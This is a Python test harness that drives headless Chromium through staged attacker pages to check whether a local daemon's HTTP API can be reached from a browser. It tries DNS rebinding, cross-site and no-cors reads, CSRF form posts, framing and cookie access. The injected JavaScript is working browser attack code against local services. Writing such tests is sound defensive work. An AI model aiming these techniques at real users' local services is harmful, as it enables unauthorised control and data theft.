# browser.py SOCKET SPEC ENSEMBLE CHROMIUM DIR READER OPERATOR: what pages can do through a port that is forwarded to
# the daemon's Unix socket, as `ssh -L 8080:/path/stretto.sock` does it, first without a session and then in one. READER
# and OPERATOR are one-time tokens. Prints one line a try, "WHERE: TRY: RESULT", as the pages themselves saw it, and
# leaves in DIR/seen what went over the wire. Below /old/ the daemon is seen as by a browser that sends neither Origin
# nor Referer nor Sec-Fetch-*.
#
# /stage/N and /report are the attacker's site; everything else goes to the daemon, byte for byte but for the Connection
# header. So http://evil.example:PORT/stage/0 stands for a name that came to mean this machine after the page was loaded
# (DNS rebinding), http://other.example:PORT for a page of another site, and http://localhost:OTHER for another user's
# server on the same host.
import http.server, json, os, re, socket, subprocess, sys, threading

daemon, spec, ensemble, chromium, folder, reader, operator = sys.argv[1:]
reports, done, place, other_cookies, session_cookie, frames, files, foreign = {}, threading.Event(), "", [], "", [], [], []

PAGE = """<!doctype html><meta charset=utf-8><script>
const results = {}, target = %(target)s, id = %(ensemble)s, json = {'Content-Type': 'application/json'}, body = %(spec)s;
let base = target + %(place)s;
async function attempt(name, path, options) {
  try {
    const answer = await fetch(base + path, options);
    let text = await answer.text(), code = '';
    try { code = ' ' + (JSON.parse(text).code || '') } catch (e) {}
    results[name] = answer.type === 'opaque' ? 'unreadable' : (answer.status + code).trim();
    return text;
  } catch (e) { results[name] = 'failed'; }
}
function element(name, tag, attribute, path) {
  return new Promise(resolve => {
    const made = document.createElement(tag);
    made.onload = () => { results[name] = 'loaded'; resolve(); };
    made.onerror = () => { results[name] = 'failed'; resolve(); };
    made.referrerPolicy = 'no-referrer';
    made[attribute] = base + path;
    document.body.append(made);
  });
}
function form(path) {
  const form = document.createElement('form'), frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  form.method = 'POST'; form.target = frame.name; form.action = base + path;
  document.body.append(frame, form);
  return new Promise(resolve => { frame.onload = resolve; form.submit(); });
}
async function attack() {
  await attempt('read', 'v1/ensembles', {credentials: 'include'});
  await attempt('read without referrer', 'v1/ensembles', {referrerPolicy: 'no-referrer'});
  await attempt('read without cors', 'v1/ensembles', {mode: 'no-cors', credentials: 'include', referrerPolicy: 'no-referrer'});
  await attempt('cancel', 'v1/ensembles/' + id + '/cancel', {method: 'POST', credentials: 'include'});
  await attempt('cancel without cors', 'v1/ensembles/' + id + '/cancel', {method: 'POST', mode: 'no-cors', credentials: 'include', referrerPolicy: 'no-referrer'});
  await attempt('submit', 'v1/ensembles', {method: 'POST', headers: json, body});
  await attempt('submit as text', 'v1/ensembles', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body, credentials: 'include'});
  await attempt('resize', 'v1/ensembles/' + id, {method: 'PATCH', headers: json, body: '{"width": 1}', credentials: 'include'});
  await attempt('log out', 'v1/sessions/current', {method: 'DELETE', credentials: 'include'});
  await element('image', 'img', 'src', 'v1/ensembles');
  await element('script', 'script', 'src', 'v1/ensembles');
  await form('v1/ensembles/' + id + '/cancel');
  await framed(base);
  await framed(target + 'old/');
}
function framed(url) {
  return new Promise(resolve => {
    const frame = document.createElement('iframe');
    frame.onload = resolve;
    frame.src = url;
    document.body.append(frame);
  });
}
async function login(token) {
  const begin = {method: 'POST', headers: json, body: JSON.stringify({login: token})};
  const begun = await attempt('log in', 'v1/sessions', begin);
  await attempt('log in twice', 'v1/sessions', begin);
  base += JSON.parse(begun).place;
}
function stream() {
  return new Promise(resolve => {
    const events = new EventSource(base + 'v1/events');
    events.onopen = () => { results.events = 'open'; events.close(); resolve(); };
    events.onerror = () => { results.events = 'failed'; events.close(); resolve(); };
  });
}
async function use() {
  await attempt('read', 'v1/ensembles', {});
  await attempt('read without referrer', 'v1/ensembles', {referrerPolicy: 'no-referrer'});
  await stream();
  await attempt('resize', 'v1/ensembles/' + id, {method: 'PATCH', headers: json, body: '{"width": 2}'});
  await attempt('tokens', 'v1/tokens', {});
  await attempt('another login', 'v1/logins', {method: 'POST'});
  results.cookie = document.cookie || 'not for scripts';
}
async function look() {
  for (const path of ['', 'v1/ensembles', 's/', 's/x/v1/ensembles']) await attempt('ask for /' + path, path, {});
}
async function logout() {
  await attempt('read', 'v1/ensembles', {});
  await attempt('log out', 'v1/sessions/current', {method: 'DELETE'});
  await attempt('read again', 'v1/ensembles', {});
}
(async () => {
  %(action)s
  await fetch('/report', {method: 'POST', body: JSON.stringify({where: %(where)s, results})});
  const next = %(next)s;
  if (next) location = next;
})();
</script><body>"""


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def reply(self, body):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def stage(self, number):
        where, host, target, in_session, action = STAGES[number]
        following = f"http://{STAGES[number + 1][1]}/stage/{number + 1}" if number + 1 < len(STAGES) else own
        words = {"where": where, "target": target, "place": place if in_session else "", "spec": spec, "ensemble": ensemble, "next": following}
        self.reply((PAGE % dict({key: json.dumps(word) for key, word in words.items()}, action=action)).encode())

    def relay(self):
        global place, session_cookie
        head, answer, old = self.raw_requestline.replace(b" /old/", b" /"), b"", self.path.startswith("/old/")
        for name, value in self.headers.raw_items():
            if name.lower() != "connection" and not (old and re.match("(?i)origin|referer|sec-fetch-", name)):
                head += f"{name}: {value}\r\n".encode()
        session_cookie = self.headers.get("Cookie") or session_cookie
        with socket.socket(socket.AF_UNIX) as upstream:
            upstream.connect(daemon)
            upstream.sendall(head + b"Connection: close\r\n\r\n" + self.body)
            while data := upstream.recv(65536):
                if not answer:
                    self.note(data.split(b" ")[1].decode(), old)
                answer += data
                if found := re.search(rb'"place":"([^"]*)"', answer):
                    place = found[1].decode()
                try:
                    self.wfile.write(data)
                except OSError:  # it has left an event stream
                    break
        if self.path.endswith("/web/app.js"):
            done.set()

    def note(self, status, old):
        """Before the page has the answer, and goes on."""
        if self.headers.get("Sec-Fetch-Site") in ("cross-site", "same-site") and not old:
            foreign.append(f"{self.headers.get('Sec-Fetch-Dest')} {self.command} {status}")
        if self.headers.get("Sec-Fetch-Dest") == "iframe" and not old:
            frames.append(status)
        elif old or self.path.startswith("/web/"):
            files.append(f"{self.path} {status}")

    def handle_request(self):
        self.body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.path.startswith("/stage/"):
            self.stage(int(self.path[7:]))
        elif self.path == "/report":
            report = json.loads(self.body)
            reports[report["where"]] = report["results"]
            self.reply(b"{}")
        elif self.path == "/favicon.ico":
            self.reply(b"")
        elif self.server is other:
            other_cookies.append(f"{self.path} {self.headers.get('Cookie')}")
            self.reply(b"{}")
        else:
            self.relay()

    do_GET = do_POST = do_PATCH = do_DELETE = do_OPTIONS = do_HEAD = handle_request


def serve():
    made = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=made.serve_forever, daemon=True).start()
    return made, made.server_address[1]


server, port = serve()
other, other_port = serve()
own = f"http://localhost:{port}/"
STAGES = [  # where, host of the page, target, whether the attacker knows the session's place, action
    ("another name", f"evil.example:{port}", "/", False, "await attack();"),
    ("another site", f"other.example:{port}", own, False, "await attack();"),
    ("own origin", f"localhost:{port}", "/", False, "await attack();"),
    ("reader", f"localhost:{port}", "/", False, f"await login('{reader}'); await use();"),
    ("operator", f"localhost:{port}", "/", False, f"await login('{operator}'); await use();"),
    ("another name in a session", f"evil.example:{port}", "/", True, "await attack();"),
    ("another site in a session", f"other.example:{port}", own, True, "await attack();"),
    ("another port in a session", f"localhost:{other_port}", own, True, "await attack();"),
    ("another server", f"localhost:{other_port}", "/", False, "await look();"),
    ("logout", f"localhost:{port}", "/", True, "await logout();"),
    ("a link", f"other.example:{port}", own, True, ""),
]
with open(os.path.join(folder, "chromium.log"), "wb") as log:
    browser = subprocess.Popen(
        [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--disable-gpu-watchdog", "--disable-hang-monitor", f"--user-data-dir={folder}/profile",
         "--remote-debugging-port=0", "--host-resolver-rules=MAP *.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1",
         f"http://{STAGES[0][1]}/stage/0"], stdin=subprocess.DEVNULL, stdout=log, stderr=log)
    finished = done.wait(500)
    browser.terminate()
    try:
        browser.wait(20)
    except subprocess.TimeoutExpired:
        browser.kill()
        browser.wait()
for where, results in reports.items():
    for attempt, result in results.items():
        print(f"{where}: {attempt}: {result}")
with open(os.path.join(folder, "seen"), "w") as seen:
    json.dump({"place": place, "cookie": session_cookie, "other": other_cookies, "frames": frames, "files": files, "foreign": foreign}, seen)
sys.exit(0 if finished else 1)
